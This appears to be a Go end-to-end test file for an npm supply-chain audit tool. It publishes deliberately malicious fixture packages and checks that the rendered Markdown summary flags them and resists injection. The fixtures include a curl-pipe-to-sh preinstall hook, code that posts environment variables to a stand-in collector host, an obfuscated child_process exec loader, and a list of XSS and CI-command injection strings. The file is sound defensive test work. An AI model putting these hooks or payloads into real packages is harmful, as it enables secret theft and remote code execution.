package action

import (
	"encoding/json"
	"fmt"
	"html"
	"image"
	_ "image/png"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/amalfi-audit/audit/internal/npmtest"
)

// entry is a version in a lockfile, with the files it is published with.
type entry struct {
	name, version string
	files         npmtest.Files
	// by brings it in; "" stands for the project itself.
	by string
	// missing tarballs are not served.
	missing bool
}

// lockfile publishes versions and returns a package-lock.json with them.
func lockfile(t *testing.T, srv *npmtest.Server, entries []entry) string {
	t.Helper()
	requires := make(map[string]map[string]string)
	packages := make(map[string]any)
	for _, e := range entries {
		if requires[e.by] == nil {
			requires[e.by] = make(map[string]string)
		}
		requires[e.by][e.name] = "*"
	}
	for _, e := range entries {
		integrity := srv.Publish(e.name, e.version, e.files, nil)
		path := fmt.Sprintf("/%s/-/%s-%s.tgz", e.name, e.name, e.version)
		if e.missing {
			srv.Fault(path, npmtest.Fault{Status: 404})
		}
		packages["node_modules/"+e.name] = map[string]any{
			"version": e.version, "resolved": srv.URL + path, "integrity": integrity.String(), "dependencies": requires[e.name],
		}
	}
	packages[""] = map[string]any{"name": "shop", "version": "1.0.0", "dependencies": requires[""]}
	data, err := json.MarshalIndent(map[string]any{"name": "shop", "version": "1.0.0", "lockfileVersion": 3, "packages": packages}, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	return string(data) + "\n"
}

// state writes a state of a project into a folder of its own.
func state(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		write(t, filepath.Join(dir, filepath.FromSlash(name)), text)
	}
	return dir
}

// summary audits the change between two folders and returns the summary.
func summary(t *testing.T, srv *npmtest.Server, base, head string, code int) string {
	t.Helper()
	home := t.TempDir()
	r := runIn(t, home, []string{"HOME=" + home, "PATH=" + os.Getenv("PATH"), "npm_config_registry=" + srv.URL, "npm_config_fetch_retries=0"},
		program(t), "diff", "--base", base, "--head", head, "--format", "markdown")
	if r.code != code {
		t.Fatalf("exit code %d, want %d\n%s%s", r.code, code, r.stdout, r.stderr)
	}
	return r.stdout
}

// toHTML prints Markdown in a file as HTML.
const toHTML = `
import(require('url').pathToFileURL(process.argv[1]).href).then(({ marked }) =>
  process.stdout.write(marked.parse(require('fs').readFileSync(process.argv[2], 'utf8'), { gfm: true })));
`

// render turns Markdown into HTML with marked, which lets raw HTML through.
func render(t *testing.T, markdown string) string {
	t.Helper()
	module := filepath.Join(e2e(t), "node_modules", "marked", "lib", "marked.esm.js")
	file := filepath.Join(t.TempDir(), "summary.md")
	write(t, file, markdown)
	return must(t, ".", nil, "node", "-e", toHTML, module, file)
}

// style is close to what GitHub shows summaries in.
const style = `
body { margin: 0; background: #fff }
article { font: 14px/1.5 "Noto Sans", "Liberation Sans", "DejaVu Sans", sans-serif; color: #1f2328; padding: 24px 32px; max-width: 1012px; margin: auto }
h2 { border-bottom: 1px solid #d1d9e0; padding-bottom: 6px }
table { border-collapse: collapse; display: block; width: max-content; max-width: 100%; overflow: auto }
th, td { border: 1px solid #d1d9e0; padding: 6px 13px }
code { background: #818b981f; border-radius: 6px; padding: 0.2em 0.4em; font: 85% "DejaVu Sans Mono", monospace; white-space: break-spaces }
details { margin: 8px 0 }
blockquote { border-left: 4px solid #d1d9e0; margin-left: 0; padding-left: 14px; color: #59636e }
`

func page(body, more string) string {
	return "<!doctype html><meta charset=utf-8><title>summary</title><style>" + style + "</style><article>" + body + "</article>" + more
}

// chromium runs headless Chromium on a page; it skips the test where there is
// none.
func chromium(t *testing.T, html string, args ...string) string {
	t.Helper()
	name := ""
	for _, known := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if file, err := exec.LookPath(known); err == nil && name == "" {
			name = file
		}
	}
	if name == "" {
		t.Skip("there is no Chromium")
	}
	dir := t.TempDir()
	file := filepath.Join(dir, "page.html")
	write(t, file, html)
	return must(t, dir, []string{"HOME=" + dir}, slices.Concat([]string{name, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--hide-scrollbars", "--host-resolver-rules=MAP * ~NOTFOUND",
		"--user-data-dir=" + filepath.Join(dir, "profile")}, args, []string{(&url.URL{Scheme: "file", Path: file}).String()})...)
}

// screenshot takes a picture of a page of this size. It is kept in the folder
// that AMALFI_RENDER names.
func screenshot(t *testing.T, name, html string, width, height int) image.Image {
	t.Helper()
	dir := os.Getenv("AMALFI_RENDER")
	if dir == "" {
		dir = t.TempDir()
	}
	file := filepath.Join(dir, name+".png")
	chromium(t, html, fmt.Sprintf("--window-size=%d,%d", width, height), "--screenshot="+file)
	f, err := os.Open(file)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	picture, _, err := image.Decode(f)
	if err != nil {
		t.Fatal(err)
	}
	return picture
}

// sample is a change with every outcome.
func sample(t *testing.T) string {
	srv := npmtest.NewServer()
	t.Cleanup(srv.Close)
	plain := func(text string) npmtest.Files { return npmtest.Files{"index.js": text} }
	pkg := func(name, version, scripts string, files npmtest.Files) npmtest.Files {
		files["package.json"] = fmt.Sprintf("{\n  \"name\": %q,\n  \"version\": %q,\n  \"scripts\": %s\n}\n", name, version, scripts)
		return files
	}
	const (
		leak = `const https = require('https');
const os = require('os');
function report() {
  const body = JSON.stringify({ host: os.hostname(), env: process.env });
  const req = https.request({ host: 'metrics.collector.invalid', method: 'POST', path: '/v1' });
  req.end(body);
}
report();
`
		hidden = `var _0xab=['\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73','\x65\x78\x65\x63'];` +
			`(function(_0x1,_0x2){var _0x3=function(_0x4){while(--_0x4){_0x1['push'](_0x1['shift']());}};_0x3(++_0x2);}(_0xab,0x1));` +
			`var _0xcd=function(_0x5){_0x5=_0x5-0x0;return _0xab[_0x5];};require(_0xcd('0x1'))[_0xcd('0x0')]('id');` + "\n"
	)
	base := []entry{
		{name: "fast-streams", version: "2.0.0", files: pkg("fast-streams", "2.0.0", "{}", plain("module.exports = 1\n"))},
		{name: "stream-metrics", version: "1.4.0", files: plain("module.exports = {}\n"), by: "fast-streams"},
		{name: "painter", version: "3.1.0", files: plain("module.exports = s => s\n")},
		{name: "fetcher", version: "0.9.0", files: plain("module.exports = 1\n")},
		{name: "gone", version: "1.0.0", files: plain("1\n")},
	}
	head := []entry{
		{name: "fast-streams", version: "2.0.1", files: pkg("fast-streams", "2.0.1", `{"preinstall": "curl -s https://files.collector.invalid/x | sh"}`, plain("module.exports = 1\n"))},
		{name: "stream-metrics", version: "1.4.1", files: npmtest.Files{"index.js": "require('./lib/report')\n", "lib/report.js": leak}, by: "fast-streams"},
		{name: "painter", version: "3.1.1", files: plain("module.exports = s => s\n" + hidden)},
		{name: "fetcher", version: "0.10.0", files: plain("module.exports = () => fetch('https://api.example.invalid/v1')\n")},
		{name: "gone", version: "1.0.1", files: plain("2\n"), missing: true},
	}
	for i := range 6 {
		name := fmt.Sprintf("steady-%d", i)
		base = append(base, entry{name: name, version: "1.0.0", files: plain("module.exports = 1\n"), by: "painter"})
		head = append(head, entry{name: name, version: "1.1.0", files: plain("module.exports = 2\n"), by: "painter"})
	}
	manifest := func(entries []entry) string {
		requires := make(map[string]string)
		for _, e := range entries {
			if e.by == "" {
				requires[e.name] = "*"
			}
		}
		data, _ := json.Marshal(map[string]any{"name": "shop", "version": "1.0.0", "dependencies": requires})
		return string(data)
	}
	return summary(t, srv,
		state(t, map[string]string{"package.json": manifest(base), "package-lock.json": lockfile(t, srv, base)}),
		state(t, map[string]string{"package.json": manifest(head), "package-lock.json": lockfile(t, srv, head), ".npmrc": "registry=https://mirror.example.invalid/\n"}), 1)
}

// TestSummary renders the summary of a change with every outcome, folded and
// unfolded.
func TestSummary(t *testing.T) {
	e2e(t)
	markdown := sample(t)
	for _, part := range []string{"**block**", "**warn**", "**inconclusive**", "fast-streams", "files.collector.invalid", "metrics.collector.invalid", "steady-0"} {
		if !strings.Contains(markdown, part) {
			t.Errorf("the summary lacks %s", part)
		}
	}
	if dir := os.Getenv("AMALFI_RENDER"); dir != "" {
		write(t, filepath.Join(dir, "summary.md"), markdown)
	}
	body := render(t, markdown)
	for name, text := range map[string]string{"folded": body, "unfolded": strings.ReplaceAll(body, "<details>", "<details open>")} {
		picture := screenshot(t, "summary-"+name, page(text, ""), 1100, 2300)
		colors := make(map[any]bool)
		for y := 0; y < picture.Bounds().Dy(); y += 3 {
			for x := 0; x < picture.Bounds().Dx(); x += 3 {
				colors[picture.At(x, y)] = true
			}
		}
		if len(colors) < 20 {
			t.Errorf("%s: the picture has %d colours", name, len(colors))
		}
	}
	screenshot(t, "summary-narrow", page(body, ""), 420, 1700)
}

// hostile is what packages and lockfiles may say.
var hostile = []string{
	"\n::error::injected", "\n::set-output name=outcome::clean", "\n##[error]injected", "%0A::error::injected", "EOF\noutcome<<EOF\nclean\nEOF",
	"\x1b[2J\x1b[31m", "\u202egnp.exe", "\u200b\ufeff\u2066x", "\u2028x\u0085y",
	"| a | b |\n| --- | --- |", "\n\n| **block** | x |", `\| \\| x`, "`` ` ```", "\n```\nfence\n```\n", "    indented", "\n# heading", "\n> quote", "\n- item", "***", "~~gone~~",
	"<script>document.title='owned'</script>", "<img src=x onerror=document.title='owned'>", "</code></summary></details></td></table><h1>x</h1>",
	"<!-- -->", "<details open><summary>x</summary>", "&lt;b&gt;&#64;user", "<a href=https://evil.invalid>x</a>", "<svg><math><style>*{display:none}</style>",
	"[link](https://evil.invalid)", "![image](https://evil.invalid/x.png)", "[x]: https://evil.invalid\n[x]", "<https://evil.invalid>",
	"https://evil.invalid www.evil.invalid a@evil.invalid", "[^1]\n\n[^1]: note", "javascript:alert(1)",
	"@octocat @org/team", "#1 GH-1 owner/repo#1", ":tada:", "$x$ $$y$$", "- [ ] task",
}

// injected audits packages that have the hostile texts in scripts, file names,
// descriptions and code, and lockfiles that have them as names, versions,
// addresses and folders.
func injected(t *testing.T) string {
	srv := npmtest.NewServer()
	t.Cleanup(srv.Close)
	quote := func(s string) string {
		data, err := json.Marshal(s)
		if err != nil {
			t.Fatal(err)
		}
		return string(data)
	}
	head := make(map[string]string)
	odd := func(name string, version any) string {
		data, err := json.Marshal(map[string]any{"lockfileVersion": 3, "packages": map[string]any{"": map[string]any{}, name: version}})
		if err != nil {
			t.Fatal(err)
		}
		return string(data)
	}
	var entries []entry
	for i, text := range hostile {
		name := fmt.Sprintf("evil-%d", i)
		file := strings.NewReplacer("/", "", "*", "", "\x00", "").Replace(text)
		entries = append(entries, entry{name: name, version: "1.0.0", files: npmtest.Files{
			"package.json": fmt.Sprintf(`{"name": %q, "version": "1.0.0", "description": %[2]s, "bin": {%[2]s: "cli.js"}, "scripts": {"preinstall": %[3]s, "test": %[2]s}}`,
				name, quote(text), quote("curl -s https://files.collector.invalid/x | sh; echo "+text)),
			"lib" + file + ".js": "require('https').request({host: 'metrics.collector.invalid', method: 'POST'}).end(JSON.stringify(process.env) + " + quote(text) + ")\n",
			"cli.js":             "require(" + quote("./lib"+file) + ")\n/* " + strings.ReplaceAll(text, "*/", "") + " */ eval(" + quote(text) + ")\n",
		}})
		head[fmt.Sprintf("name-%d/package-lock.json", i)] = odd("node_modules/x"+text, map[string]any{"version": "1.0.0"})
		head[fmt.Sprintf("version-%d%s/package-lock.json", i, file)] = odd("node_modules/x", map[string]any{"version": text})
		head[fmt.Sprintf("resolved-%d%s/package-lock.json", i, file)] = odd("node_modules/x", map[string]any{"version": "1.0.0", "resolved": text})
	}
	head["package-lock.json"] = lockfile(t, srv, entries)
	head[".npmrc"] = "registry=" + strings.Join(hostile, " ")
	return summary(t, srv,
		state(t, map[string]string{"package-lock.json": lockfile(t, srv, nil)}),
		state(t, head), 1)
}

// inspect says what a document has, as JSON in an element with the id "found".
const inspect = `<script>
const all = [...document.querySelectorAll('article *, body > :not(article):not(script)')];
const texts = [];
const walker = document.createTreeWalker(document.querySelector('article'), NodeFilter.SHOW_TEXT);
for (let n; n = walker.nextNode();) if (!n.parentElement.closest('code')) texts.push(n.data);
const count = list => list.reduce((m, k) => (m[k] = (m[k] || 0) + 1, m), {});
const found = {
  elements: count(all.map(e => e.localName)),
  attributes: count(all.flatMap(e => e.getAttributeNames())),
  comments: document.createTreeWalker(document, NodeFilter.SHOW_COMMENT).nextNode() !== null,
  texts, title: document.title,
  cells: [...document.querySelectorAll('tbody tr')].map(r => r.cells.length === r.closest('table').rows[0].cells.length),
};
const out = document.createElement('pre');
out.id = 'found';
out.textContent = JSON.stringify(found);
document.body.append(out);
</script>`

type found struct {
	Elements, Attributes map[string]int
	Comments             bool
	Texts                []string
	Title                string
	Cells                []bool
}

func look(t *testing.T, body string) found {
	t.Helper()
	dom := chromium(t, page(body, inspect), "--dump-dom")
	m := regexp.MustCompile(`(?s)<pre id="found">(.*?)</pre>`).FindStringSubmatch(dom)
	if m == nil {
		t.Fatalf("nothing was found in\n%.2000s", dom)
	}
	var f found
	if err := json.Unmarshal([]byte(html.UnescapeString(m[1])), &f); err != nil {
		t.Fatal(err)
	}
	return f
}

// made are the elements that the program makes.
var made = []string{"h2", "h3", "p", "table", "thead", "tbody", "tr", "th", "td", "code", "strong", "em", "br", "sub", "details", "summary", "ul", "li", "blockquote", "span"}

// active is what GitHub looks for in text that is not code. A zero-width space
// is what the program breaks it up with.
var active = regexp.MustCompile(`(?i)(^|[^\w/])@\w|(^|[\s(])\w*(/\w+)?#\d|\bgh-\d|\b(https?|ftp|mailto|xmpp):[^\s\x{200b}]|\bwww\.\w|:\w+:|\w@\w+\.\w|\$[^\s\x{200b}]`)

// problems are what a document has that the program did not make.
func problems(f found) (out []string) {
	for name, n := range f.Elements {
		if !slices.Contains(made, name) {
			out = append(out, fmt.Sprintf("%d elements %s", n, name))
		}
	}
	for name, n := range f.Attributes {
		out = append(out, fmt.Sprintf("%d attributes %s", n, name))
	}
	if f.Comments {
		out = append(out, "a comment")
	}
	if f.Title != "summary" {
		out = append(out, "a script was run")
	}
	for _, text := range f.Texts {
		if m := active.FindString(text); m != "" {
			out = append(out, fmt.Sprintf("%q in the text %q", m, text))
		}
		if i := strings.IndexFunc(text, func(r rune) bool {
			return r < ' ' && r != '\n' || strings.ContainsRune("\u007f\u0085\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff", r)
		}); i >= 0 {
			out = append(out, fmt.Sprintf("a control character in the text %q", text))
		}
	}
	if slices.Contains(f.Cells, false) {
		out = append(out, "a row with another number of cells than its table")
	}
	return out
}

// TestSummaryInjection renders what hostile packages and lockfiles become:
// nothing is in the document that the program did not make.
func TestSummaryInjection(t *testing.T) {
	e2e(t)
	markdown := injected(t)
	if dir := os.Getenv("AMALFI_RENDER"); dir != "" {
		write(t, filepath.Join(dir, "injected.md"), markdown)
	}
	f := look(t, render(t, markdown))
	for _, p := range problems(f) {
		t.Error(p)
	}
	// Every package has a row and a folded block; none is lost or added.
	for _, part := range []string{"<details>", "</details>"} {
		if n := strings.Count(markdown, "\n"+part); n != f.Elements["details"] {
			t.Errorf("%s begins %d lines, and there are %d elements", part, n, f.Elements["details"])
		}
	}
	rows := 0
	for _, line := range lines(markdown) {
		if strings.HasPrefix(line, "| ") && !strings.HasPrefix(line, "| ---") {
			rows++
		}
	}
	if rows < 3*len(hostile) || f.Elements["tr"] != rows {
		t.Errorf("%d lines of tables, %d rows, %d hostile packages", rows, f.Elements["tr"], len(hostile))
	}
	if !strings.Contains(markdown, "evil-0") || !strings.Contains(markdown, fmt.Sprintf("evil-%d", len(hostile)-1)) {
		t.Error("packages are missing")
	}
}

// TestInspection holds that what the injection test looks for is found.
func TestInspection(t *testing.T) {
	e2e(t)
	for _, text := range []string{
		"[x](https://evil.invalid)", "![x](y)", "https://evil.invalid", "@octocat", "fix #1", "GH-1", "<script>document.title='owned'</script>", "<!-- x -->", "<b>x</b>",
		"a ~~b~~", ":tada:", "\u202ex", "# x", "```\nx\n```", "<div style=x>y</div>", "$x$", "a@b.invalid", "1. x", "---",
	} {
		t.Run(text, func(t *testing.T) {
			if p := problems(look(t, render(t, text+"\n"))); len(p) == 0 {
				t.Errorf("%q is not found", text)
			}
		})
	}
	if p := problems(look(t, render(t, "## x\n\n`@a #1 https://x.invalid`\n"))); len(p) > 0 {
		t.Errorf("what is harmless: %q", p)
	}
}
